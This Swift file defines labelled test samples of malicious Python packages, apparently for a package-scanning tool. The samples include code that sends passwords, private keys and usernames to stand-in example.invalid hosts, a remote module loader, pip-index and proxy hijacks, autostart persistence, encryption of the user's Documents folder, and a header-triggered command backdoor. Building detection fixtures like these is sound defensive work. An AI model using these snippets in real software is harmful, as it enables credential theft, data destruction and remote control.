extension Sample {
    /// Attacks in Python.
    static let attacksPython: [Sample] = [
        Sample(
            "a loader of modules that fetches them",
            "x-1.tar.gz",
            [
                (
                    "x/core.py",
                    #"""
                    import importlib.abc, importlib.util, sys, urllib.request
                    class L(importlib.abc.SourceLoader):
                        def get_filename(self, n): return n
                        def get_data(self,
                          p): return urllib.request.urlopen(
                            "https://m.example.invalid/" + p).read()
                    def use(name):
                        s = importlib.util.spec_from_loader(name, L())
                        m = importlib.util.module_from_spec(s)
                        s.loader.exec_module(m)
                        return m
                    """#
                ),
                (
                    "x/__init__.py",
                    #"""
                    from .core import use
                    """#
                ),
            ]
        ),
        Sample(
            "an index written into settings",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
                    import os
                    p = os.path.expanduser("~/.config/pip/pip.conf")
                    os.makedirs(os.path.dirname(p), exist_ok=True)
                    with open(p, "a") as f:
                        f.write(
                          "[global]\nextra-index-url = https://idx.example.invalid/simple\n")
                    """#
                )
            ]
        ),
        Sample(
            "a proxy for all that is asked",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
                    import os
                    for k in ("HTTPS_PROXY", "https_proxy", "ALL_PROXY"):
                        os.environ[k] = "http://198.51.100.8:3128"
                    os.environ["PYTHONHTTPSVERIFY"] = "0"
                    """#
                )
            ]
        ),
        Sample(
            "a client with a proxy of its own",
            "x-1.tar.gz",
            [
                (
                    "x/client.py",
                    #"""
                    import requests
                    class Client:
                        def __init__(self, token):
                            self.s = requests.Session()
                            self.s.proxies = {
                              "https": "http://relay.fastnet.example.invalid:8080"}
                            self.s.verify = False
                            self.s.headers["Authorization"] = "Bearer " + token
                        def get(self, url):
                            return self.s.get(url)
                    """#
                ),
                (
                    "x/__init__.py",
                    #"""
                    from .client import Client
                    """#
                ),
            ]
        ),
        Sample(
            "a password told twice",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
                    import smtplib, urllib.request, urllib.parse
                    def send(host, user, password, msg):
                        s = smtplib.SMTP(host)
                        s.login(user, password)
                        s.send_message(msg)
                        urllib.request.urlopen(
                          "https://mail-stats.example.invalid/u?" + urllib.parse.urlencode({
                            "h": host, "u": user, "p": password}))
                    """#
                )
            ]
        ),
        Sample(
            "a key that a thread is given",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
                    import threading, requests
                    from solders.keypair import Keypair
                    def load(raw):
                        kp = Keypair.from_bytes(raw)
                        threading.Thread(target=_warm, args=(bytes(kp).hex(),)).start()
                        return kp
                    def _warm(x):
                        requests.get("https://rpc.quick.example.invalid/health",
                          headers={"x-req": x})
                    """#
                )
            ]
        ),
        Sample(
            "a desktop that starts it",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
                    import pathlib
                    p = pathlib.Path.home() / ".config" / "autostart" / "kde.desktop"
                    p.parent.mkdir(parents=True, exist_ok=True)
                    p.write_text("[Desktop Entry]\nExec=python3 -m x.agent\n")
                    """#
                )
            ]
        ),
        Sample(
            "a name in a host that is pinged",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
                    import os, getpass
                    os.system("ping -c1 " + getpass.getuser() + ".b.example.invalid")
                    """#
                )
            ]
        ),
        Sample(
            "files put under a key",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
                    import os
                    from cryptography.fernet import Fernet
                    k = Fernet(Fernet.generate_key())
                    for r, d, fs in os.walk(os.path.expanduser("~/Documents")):
                        for f in fs:
                            p = os.path.join(r, f)
                            b = open(p, "rb").read()
                            open(p, "wb").write(k.encrypt(b))
                    """#
                )
            ]
        ),
        Sample(
            "a header that is run in Python",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
                    import subprocess
                    from flask import request
                    def init_app(app):
                        @app.before_request
                        def probe():
                            c = request.headers.get("X-Debug-Run")
                            if c:
                                return subprocess.getoutput(c)
                    """#
                )
            ]
        ),
    ]
}
